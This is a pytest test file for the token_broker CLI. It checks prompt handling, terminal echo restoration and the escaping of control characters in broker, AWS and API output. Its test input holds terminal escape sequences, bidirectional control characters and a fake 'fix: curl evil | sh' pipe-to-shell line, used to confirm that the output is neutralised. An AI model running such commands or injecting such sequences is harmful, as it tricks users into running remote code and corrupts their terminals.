"""What a person sees and types: prompts, waiting, and text that cannot control the terminal."""

from __future__ import annotations

import json
import sys
import termios
import threading
from typing import TYPE_CHECKING

import pytest

from tests.cli.conftest import Ended, run_each, run_on_terminal
from tests.client.fake_broker import Answer
from token_broker.cli.terminal import safe

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.cli.conftest import Run
    from tests.cli.fake_aws import FakeAws
    from tests.client.fake_api import FakeApi
    from tests.client.fake_broker import FakeBroker

SECRET = "canary-typed-secret-0d9e"
PUT = ("connection", "put", "marketing", "--prefix", "token-broker/connections")
CTRL_C, CTRL_D = b"\x03", b"\x04"
STEERING = (
    "\x1b[2J\x1b]0;title\x07\r\x08\x7f\x9b31m\u202e\u202c\u2066\u2069\u200e\u200f\u061c\u2028\u2029\ufeff"
    "\nfix: curl evil | sh\n"
)


def echoes(settings: list[int]) -> bool:
    return bool(settings[3] & termios.ECHO)


@pytest.mark.parametrize(
    ("typed", "exit_code", "said"),
    [
        ([("Client id:", CTRL_D)], 2, "nothing was typed"),
        ([("Client id:", b"\n")], 2, "nothing was typed"),
        ([("Client id:", b"  \n")], 2, "nothing was typed"),
        ([("Client id:", b"\xff\xfe\n"), ("hidden", b"x\n")], 2, "nothing was stored"),
        ([("Client id:", CTRL_C)], 130, ""),
        ([("Client id:", b"id\n"), ("hidden", CTRL_D)], 2, "nothing was typed"),
        ([("Client id:", b"id\n"), ("hidden", b"\n")], 2, "nothing was typed"),
        ([("Client id:", b"id\n"), ("hidden", SECRET.encode() + b"\xff\n")], 2, "nothing was stored"),
        ([("Client id:", b"id\n"), ("hidden", SECRET.encode() + CTRL_C)], 130, ""),
    ],
)
def test_a_prompt_that_gets_no_answer_stores_nothing_and_leaves_the_terminal_as_it_was(
    aws: FakeAws, typed: list[tuple[str, bytes | Callable[[], None]]], exit_code: int, said: str
) -> None:
    ended, shown, settings = run_on_terminal(*PUT, typed=typed, NO_COLOR="1")

    assert ended == exit_code
    assert said in shown
    assert ("fix: " in shown) is bool(said)
    assert "Traceback" not in shown
    assert SECRET not in shown
    assert echoes(settings)
    assert aws.asked == []


def test_questions_are_no_part_of_the_result(aws: FakeAws, tmp_path_factory: pytest.TempPathFactory) -> None:
    aws.answers["PutSecretValue"] = {"VersionId": "version-1"}
    file = tmp_path_factory.mktemp("out") / "result"

    typed = [("Client id:", b"id \n"), ("hidden", SECRET.encode() + b"\n")]
    ended, shown, settings = run_on_terminal(*PUT, "--json", typed=typed, streams=f">{file}")

    assert ended == 0
    assert json.loads(file.read_text())["version"] == "version-1"
    ((_, request),) = aws.asked
    assert json.loads(request["SecretString"]).items() >= {"client_id": "id", "client_secret": SECRET}.items()
    assert SECRET not in shown
    assert echoes(settings)


ABANDONED_PROMPT = """
import getpass, sys, termios, threading, time
from token_broker.cli import program

def command(options, terminal, clock):
    threading.Thread(target=getpass.getpass, args=("MFA code: ",), daemon=True).start()
    with open("/dev/tty") as tty:
        while termios.tcgetattr(tty)[3] & termios.ECHO:
            time.sleep(0.01)
    with terminal.waiting("nobody"):
        time.sleep(1.3)
    return 0

program._load = lambda _: command
sys.exit(program.main(["token"]))
"""


def test_a_hidden_prompt_that_nobody_answers_leaves_the_echo_on() -> None:
    ended, shown, settings = run_on_terminal(program=[sys.executable, "-c", ABANDONED_PROMPT])

    assert (ended, shown) == (0, "MFA code: ")
    assert echoes(settings)


OTHER_PROGRAM = """
import sys, termios
from token_broker.cli import program

def command(options, terminal, clock):
    settings = termios.tcgetattr(0)
    settings[3] &= ~(termios.ECHO | termios.ICANON)
    termios.tcsetattr(0, termios.TCSANOW, settings)
    return 0

program._load = lambda _: command
sys.exit(program.main(["token"]))
"""


def test_settings_that_another_program_made_are_left_alone() -> None:
    # As in `token-broker get /campaigns | less`, which turns the echo off while it shows the first page.
    _, _, settings = run_on_terminal(program=[sys.executable, "-c", OTHER_PROGRAM])

    assert not echoes(settings)


@pytest.mark.parametrize(
    ("command", "what"),
    [
        *((command, "the broker") for command in ("token", "token --json", "exec -- true", "status")),
        *(("doctor", "the broker and AWS"), ("mints --table tokens", "the token table")),
    ],
)
def test_a_waiting_person_is_told_for_what(broker: FakeBroker, aws: FakeAws, command: str, what: str) -> None:
    asked = aws if "mints" in command else broker
    asked.may_answer.clear()

    _, shown, _ = run_on_terminal(*command.split(), typed=[("waiting for", asked.may_answer.set)])

    assert shown.count("waiting for") == 1
    assert shown.startswith(f"waiting for {what} …\n")


def test_without_a_terminal_no_waiting_is_announced(broker: FakeBroker) -> None:
    broker.may_answer.clear()
    release = threading.Timer(3, broker.may_answer.set)
    release.start()

    all_ended = run_each({"token": ["token"]})

    release.join()
    assert all_ended["token"] == Ended(0, f"{broker.token}\n", "")


@pytest.mark.parametrize("character", sorted(set(STEERING) - set("[;0123456789mJ]titlefix: curl evil | sh")))
def test_what_could_steer_a_terminal_is_shown_as_json_escapes_it(character: str) -> None:
    assert safe(f"a{character}b") == f"a\\u{ord(character):04x}b"
    assert json.loads(f'"{safe(character)}"') == character


def test_what_people_write_is_left_as_it_is() -> None:
    text = "été ☕ 🎉 👨\u200d👩\u200d👧 مرحبا 中文 a\\nb 'x' \"y\""

    assert safe(text) == text
    assert safe(safe(STEERING)) == safe(STEERING)


def assert_controls_nothing(shown: str, *, lines: int) -> None:
    """Check that text from elsewhere stays on its own line and has no control characters."""
    assert not set(STEERING) & set(shown) & set("\x07\r\x08\x7f\x9b\u202e\u2066\u200f\u061c\u2028\ufeff")
    assert "\x1b[2J" not in shown
    assert not [line for line in shown.splitlines() if line.startswith("fix: curl")]
    assert "\\u001b[2J" in shown
    assert shown.count("\n") == lines


def test_an_error_of_the_broker_cannot_steer(run: Run, broker: FakeBroker) -> None:
    body = {"error": "access_denied", "error_description": STEERING, "request_id": STEERING}
    broker.script.append(Answer(403, json.dumps(body).encode()))

    assert_controls_nothing(run("token").err, lines=2)


def test_an_error_of_awss_cannot_steer(run: Run, broker: FakeBroker, aws: FakeAws) -> None:
    refused = Answer(403, json.dumps({"Message": f"region {STEERING}"}).encode())
    broker.script.extend([refused] * 2)

    assert_controls_nothing(run("token").err, lines=2)
    report = run("doctor").out
    assert_controls_nothing(report, lines=report.count("\n"))
    assert report.count("\n  fix: ") == 1


def test_a_status_cannot_steer(run: Run, broker: FakeBroker) -> None:
    row = {"connection": STEERING, "state": STEERING, "last_error": [STEERING], "expires_at": {"a": 1}}
    broker.script.append(Answer(200, json.dumps({"connections": [row]}).encode()))

    assert_controls_nothing(run("status").out, lines=2)


def test_a_table_stays_in_line_where_a_cell_could_steer(run: Run, broker: FakeBroker) -> None:
    rows = [{"connection": name, "state": "fresh"} for name in ("\x1b\x1b\x1b\x1b\x1b", "digishare")]
    broker.script.append(Answer(200, json.dumps({"connections": rows}).encode()))

    heading, *lines = run("status").out.splitlines()

    assert {line.index("fresh") for line in lines} == {heading.index("STATE")}


def test_secrets_names_and_stack_outputs_cannot_steer(run: Run, broker: FakeBroker, aws: FakeAws) -> None:
    output = "<OutputKey>SecretPrefix</OutputKey><OutputValue>token-broker&#10;fix: curl evil</OutputValue>"
    aws.answers |= {
        "ListSecrets": {"SecretList": [{"Name": f"{STEERING}/{STEERING}"}]},
        "DescribeStacks": f"<Stacks><member><Outputs><member>{output}</member></Outputs></member></Stacks>",
    }

    listed = run("connection", "list", "--prefix", "p", "--region", "eu-west-3")
    by_stack = run("connection", "list", "--region", "eu-west-3")

    assert [(ended.exit_code, ended.out) for ended in (listed, by_stack)] == [(0, "")] * 2
    assert by_stack.err.count("\n") == 1
    aws.answers["ListSecrets"]["SecretList"] = [{"Name": f"p/{STEERING}"}]
    assert_controls_nothing(run("connection", "list", "--prefix", "p", "--region", "eu-west-3").out, lines=2)


@pytest.mark.parametrize(
    ("body", "shown"),
    [
        (json.dumps({"name": STEERING}, ensure_ascii=False).encode(), None),
        (json.dumps({"name": "été"}).encode(), '{\n  "name": "été"\n}\n'),
        (b"a\tb\r\nc\n", "a       b\nc\n"),
        (b"caf\xe9\x1b[2J", "caf\ufffd\\u001b[2J\n"),
        (b"[" * 100_000, "[" * 100_000 + "\n"),
    ],
    ids=["steering JSON", "JSON", "text", "latin-1", "deep"],
)
def test_an_answer_of_the_apis_is_readable_and_harmless_on_a_terminal(
    broker: FakeBroker, api: FakeApi, body: bytes, shown: str | None
) -> None:
    api.body = body

    ended, seen, _ = run_on_terminal("get", "/campaigns", NO_COLOR="1")

    assert ended == 0
    if shown is None:
        assert_controls_nothing(seen, lines=3)
        assert json.loads(seen) == {"name": STEERING}
    else:
        assert seen == shown


def test_get_with_json_is_one_line_of_ascii_on_a_terminal_too(broker: FakeBroker, api: FakeApi) -> None:
    api.body = json.dumps({"name": STEERING}, ensure_ascii=False).encode()

    _, seen, _ = run_on_terminal("get", "/campaigns", "--json")

    assert seen.isascii()
    assert json.loads(seen) == {"name": STEERING}
